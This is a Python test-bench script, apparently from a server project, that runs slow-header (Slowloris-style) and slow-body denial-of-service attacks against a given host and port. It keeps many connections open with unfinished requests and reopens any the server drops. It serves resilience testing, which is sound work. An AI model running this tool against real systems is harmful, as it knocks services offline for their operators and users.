#!/usr/bin/env python3
"""Attacking clients for tests/bench/attack.sh: one process, non-blocking sockets.

    attack.py slow HOST PORT N [--interval S]
        N connections, each sends a partial request head, then one more byte of it
        every S seconds (default 5), never finishing it.
    attack.py body HOST PORT N [--size BYTES]
        N connections, each sends a head with `Content-Length: BYTES` (default
        1048576) and then all of the body but its last KB, and holds it unfinished.

A connection the server closes is opened again and starts over, as a persistent
attacker would. Prints `ready` once every connection is open (and, for `body`, has
sent its body or made no progress for 3 s), then one status line per second:
`open=… closed_by_server=… sent_mb=…`. Runs until killed (SIGTERM/SIGINT).
"""

import argparse
import errno
import resource
import selectors
import signal
import socket
import sys
import time

HEAD_SLOW = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slow\r\n"
# One more header byte at a time; the head never ends.
TRICKLE = b"X-Slow: 1\r\n"
OPEN_BATCH = 200
STALL_SECS = 3.0


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = n + 64
    if soft < want:
        if hard != resource.RLIM_INFINITY and hard < want:
            sys.exit(f"attack.py: open-files hard limit {hard} < {want}; raise ulimit -n")
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


class Conn:
    __slots__ = ("sock", "out", "pos", "connected", "tick", "last_progress", "done")

    def __init__(self, sock, out):
        self.sock = sock
        self.out = out          # bytes or memoryview still to send at once
        self.pos = 0
        self.connected = False
        self.tick = 0           # position in TRICKLE (slow mode)
        self.last_progress = time.monotonic()
        self.done = False       # body fully sent (body mode)


class Attack:
    def __init__(self, args):
        self.args = args
        self.sel = selectors.DefaultSelector()
        self.conns = {}
        self.closed_by_server = 0
        self.sent = 0
        self.running = True
        if args.mode == "slow":
            self.payload = memoryview(HEAD_SLOW)
        else:
            head = (
                "POST /api/auth/login HTTP/1.1\r\nHost: localhost\r\n"
                "Content-Type: application/json\r\n"
                f"Content-Length: {args.size}\r\n\r\n"
            ).encode()
            # Most of the body, never all of it: the request stays unfinished.
            self.payload = memoryview(head + b"x" * max(args.size - 1024, 0))

    def open_one(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex((self.args.host, self.args.port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            return False
        c = Conn(s, self.payload)
        self.conns[s.fileno()] = c
        self.sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, c)
        return True

    def drop(self, c, by_server):
        try:
            self.sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass
        self.conns.pop(c.sock.fileno(), None)
        c.sock.close()
        if by_server:
            self.closed_by_server += 1

    def on_event(self, c, mask):
        if mask & selectors.EVENT_READ:
            try:
                data = c.sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                data = None
            except OSError:
                data = b""
            if data == b"":
                self.drop(c, by_server=True)
                return
        if mask & selectors.EVENT_WRITE:
            c.connected = True
            self.send_some(c)

    def send_some(self, c):
        while c.pos < len(c.out):
            try:
                n = c.sock.send(c.out[c.pos:c.pos + 262144])
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                self.drop(c, by_server=True)
                return
            c.pos += n
            self.sent += n
            c.last_progress = time.monotonic()
        # Everything queued is sent: stop asking for writability.
        c.done = True
        try:
            self.sel.modify(c.sock, selectors.EVENT_READ, c)
        except (KeyError, ValueError):
            pass

    def trickle(self):
        for c in list(self.conns.values()):
            if c.connected and c.done:
                byte = TRICKLE[c.tick % len(TRICKLE):c.tick % len(TRICKLE) + 1]
                c.tick += 1
                try:
                    self.sent += c.sock.send(byte)
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    self.drop(c, by_server=True)

    def ready(self):
        if len(self.conns) < self.args.n:
            return False
        now = time.monotonic()
        return all(
            c.connected and (c.done or now - c.last_progress > STALL_SECS)
            for c in self.conns.values()
        )

    def run(self):
        said_ready = False
        next_trickle = time.monotonic() + self.args.interval
        next_status = time.monotonic() + 1
        while self.running:
            # Open (or reopen) missing connections, a batch per turn.
            missing = self.args.n - len(self.conns)
            for _ in range(min(missing, OPEN_BATCH)):
                if not self.open_one():
                    break
            for key, mask in self.sel.select(timeout=0.2):
                self.on_event(key.data, mask)
            now = time.monotonic()
            if self.args.mode == "slow" and now >= next_trickle:
                self.trickle()
                next_trickle = now + self.args.interval
            if not said_ready and self.ready():
                print("ready", flush=True)
                said_ready = True
            if now >= next_status:
                next_status = now + 1
                print(
                    f"open={len(self.conns)} closed_by_server={self.closed_by_server} "
                    f"sent_mb={self.sent / 1048576:.0f}",
                    flush=True,
                )


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("mode", choices=["slow", "body"])
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("n", type=int)
    p.add_argument("--interval", type=float, default=5.0)
    p.add_argument("--size", type=int, default=1048576)
    args = p.parse_args()
    raise_nofile(args.n)
    attack = Attack(args)

    def stop(*_):
        attack.running = False

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    attack.run()


if __name__ == "__main__":
    main()
